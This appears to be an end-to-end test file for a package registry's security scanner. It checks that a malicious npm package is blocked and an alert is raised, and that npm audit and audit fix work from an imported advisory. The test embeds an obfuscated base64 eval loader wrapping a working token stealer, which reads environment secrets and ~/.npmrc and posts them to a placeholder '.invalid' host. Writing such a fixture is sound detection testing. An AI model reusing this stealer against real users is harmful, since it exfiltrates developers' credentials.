import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { runCleanups, waitFor } from '@palisade/testing';
import { readAlerts } from './support/alerts';
import { NpmUser } from './support/npm-cli';
import { SCANNING_TOKEN, importOsv, scanningUrl } from './support/scanning-admin';
import { startStack, type Stack, type StackMode } from './support/stack';

// Scanning end to end with the real npm CLI: a credential-stealing postinstall is blocked from
// every view and raises an alert; `npm audit` and `npm audit fix` work from Palisade's advisories.
const modes: StackMode[] = ['distributed', 'embedded'];

// A harmless reproduction of the technique: an obfuscated install hook that decodes a blob, reads
// tokens from the environment and ~/.npmrc and posts them out. It is never run (nothing installs
// it), and its destination is under `.invalid`, which never resolves.
const STEALER = [
  "const https=require('https'),os=require('os'),fs=require('fs');",
  "const loot={env:Object.keys(process.env).filter(k=>/TOKEN|SECRET|NPM|AWS|GITHUB/i.test(k)).reduce((o,k)=>(o[k]=process.env[k],o),{}),",
  "npmrc:(()=>{try{return fs.readFileSync(os.homedir()+'/.npmrc','utf8')}catch(e){return ''}})(),host:os.hostname(),user:os.userInfo().username};",
  "const req=https.request({hostname:'collector.exfil.invalid',path:'/u',method:'POST',headers:{'content-type':'application/json'}});",
  "req.on('error',()=>{});req.end(JSON.stringify(loot));",
].join('');
const OBFUSCATED_INSTALL = `var _0x5a1f=['\\x62\\x61\\x73\\x65\\x36\\x34','\\x74\\x6f\\x53\\x74\\x72\\x69\\x6e\\x67'];(function(_0x1,_0x2){eval(Buffer.from(_0x1,_0x5a1f[0])[_0x5a1f[1]]());})('${Buffer.from(STEALER).toString('base64')}');\n`;

async function createUser(stack: Stack, name: string, password: string): Promise<string> {
  const response = await fetch(`${stack.registry()}-/user/org.couchdb.user:${name}`, {
    method: 'PUT',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${stack.adminToken}` },
    body: JSON.stringify({ _id: `org.couchdb.user:${name}`, name, password, email: `${name}@example.test`, type: 'user', roles: [] }),
  });
  expect(response.status).toBe(201);
  return ((await response.json()) as { token: string }).token;
}

describe.each(modes)('scanning with the real npm CLI (%s mode)', (mode) => {
  let stack: Stack;
  let alice: NpmUser;
  let scanning: string;

  beforeAll(async () => {
    stack = await startStack(mode, { PALISADE_SCANNING_ADMIN_TOKEN: SCANNING_TOKEN });
    alice = await NpmUser.create(stack.registry(), await createUser(stack, 'alice', 'correct-horse-battery'));
    scanning = await scanningUrl(stack);
  });

  afterAll(async () => {
    await stack?.stop();
    await runCleanups();
  });

  const packument = async (name: string) => {
    const response = await fetch(`${stack.registry()}${name.replace('/', '%2f')}`);
    return { status: response.status, body: response.status === 200 ? ((await response.json()) as { versions?: Record<string, { deprecated?: string }> }) : undefined };
  };

  it('blocks a package whose obfuscated postinstall steals tokens: absent from packuments, tarball refused, not installable, alert raised', async () => {
    const dir = await alice.project(
      { name: 'evil-helper', version: '1.0.0', description: 'string helpers', main: 'index.js', scripts: { postinstall: 'node install.js' } },
      { 'index.js': 'module.exports = (s) => String(s).trim();\n', 'install.js': OBFUSCATED_INSTALL },
    );
    await alice.npm(['publish'], dir);
    await waitFor(async () => (await scannedVerdict('evil-helper', '1.0.0')) === 'block', { timeoutMs: 20_000, message: 'block verdict' });
    await waitFor(async () => (await packument('evil-helper')).body?.versions?.['1.0.0'] === undefined, { timeoutMs: 10_000, message: 'version hidden' });
    for (const view of ['dev', 'staging', 'prod']) {
      const tarball = await fetch(`${stack.registry(view)}evil-helper/-/evil-helper-1.0.0.tgz`);
      expect([404, 451]).toContain(tarball.status);
    }
    const dev = await fetch(`${stack.registry('dev')}evil-helper/-/evil-helper-1.0.0.tgz`);
    if (dev.status === 451) expect(((await dev.json()) as { error: string }).error).toContain('blocked by the security scan');
    const consumer = await alice.project({ name: 'consumer', version: '1.0.0', private: true });
    const install = await alice.npm(['install', 'evil-helper@1.0.0', '--ignore-scripts'], consumer);
    expect(install.code).not.toBe(0);
    // On NATS in distributed mode, on the embedded bus's log in embedded mode.
    await waitFor(async () => (await readAlerts(stack)).some((a) => a.subject === 'alerts.security.critical.malware' && a.event.data.package?.name === 'evil-helper'), {
      timeoutMs: 10_000,
      message: 'malware alert published',
    });
  });

  it('npm audit reports an imported advisory with its severity, and npm audit fix moves to the fixed version', async () => {
    for (const version of ['1.0.0', '1.0.1']) {
      const dir = await alice.project({ name: '@e2e/vuln-lib', version, main: 'index.js' }, { 'index.js': `module.exports = ${JSON.stringify(version)};\n` });
      const published = await alice.npm(['publish'], dir);
      expect(published.code).toBe(0);
    }
    const imported = await importOsv(scanning, [
      {
        schema_version: '1.4.0',
        id: 'GHSA-e2e0-vuln-0001',
        modified: '2026-11-01T00:00:00Z',
        published: '2026-11-01T00:00:00Z',
        aliases: ['CVE-2026-99999'],
        summary: 'Regular expression denial of service in @e2e/vuln-lib',
        severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:L' }],
        affected: [{ package: { ecosystem: 'npm', name: '@e2e/vuln-lib' }, ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed: '1.0.1' }] }] }],
        references: [{ type: 'ADVISORY', url: 'https://github.com/advisories/GHSA-e2e0-vuln-0001' }],
        database_specific: { severity: 'MODERATE', cwe_ids: ['CWE-1333'] },
      },
    ]);
    expect(imported).toMatchObject({ imported: 1 });
    // The re-judged 1.0.0 turns `warn`, which opens a recall: dev (warn) shows the case as a
    // deprecation naming the advisory and the fixed version.
    await waitFor(async () => (await packument('@e2e/vuln-lib')).body?.versions?.['1.0.0']?.deprecated?.includes('GHSA-e2e0-vuln-0001') === true, {
      timeoutMs: 15_000,
      message: 'warn verdict shown as deprecation',
    });

    const project = await alice.project({ name: 'audited', version: '1.0.0', private: true });
    const install = await alice.npm(['install', '@e2e/vuln-lib@1.0.0', '--save', '--audit=false'], project);
    expect(install.code).toBe(0);
    expect(install.output).toMatch(/npm warn deprecated @e2e\/vuln-lib@1\.0\.0: Palisade recall RC-\w+ \(medium\): GHSA-e2e0-vuln-0001: .* Use @e2e\/vuln-lib@1\.0\.1 instead\./);
    const audit = await alice.npm(['audit', '--json', '--audit=true'], project);
    const report = JSON.parse(audit.stdout) as { vulnerabilities: Record<string, { severity: string; via: Array<{ title?: string; url?: string } | string> }> };
    expect(report.vulnerabilities['@e2e/vuln-lib']).toMatchObject({ severity: 'moderate' });
    expect(report.vulnerabilities['@e2e/vuln-lib'].via).toEqual(expect.arrayContaining([expect.objectContaining({ url: 'https://github.com/advisories/GHSA-e2e0-vuln-0001' })]));
    expect(audit.code).not.toBe(0);

    const fix = await alice.npm(['audit', 'fix', '--audit=true'], project);
    expect(fix.code).toBe(0);
    const installed = JSON.parse(await readFile(join(project, 'node_modules/@e2e/vuln-lib/package.json'), 'utf8')) as { version: string };
    expect(installed.version).toBe('1.0.1');
    const after = await alice.npm(['audit', '--json', '--audit=true'], project);
    expect((JSON.parse(after.stdout) as { vulnerabilities: Record<string, unknown> }).vulnerabilities['@e2e/vuln-lib']).toBeUndefined();
  });

  async function scannedVerdict(name: string, version: string): Promise<string | undefined> {
    const response = await fetch(`${scanning}/-/palisade/v1/scanning/verdicts?name=${encodeURIComponent(name)}`, { headers: { authorization: `Bearer ${SCANNING_TOKEN}` } });
    if (response.status !== 200) return undefined;
    const { verdicts } = (await response.json()) as { verdicts: Array<{ version: string; verdict: string }> };
    return verdicts.find((v) => v.version === version)?.verdict;
  }
});
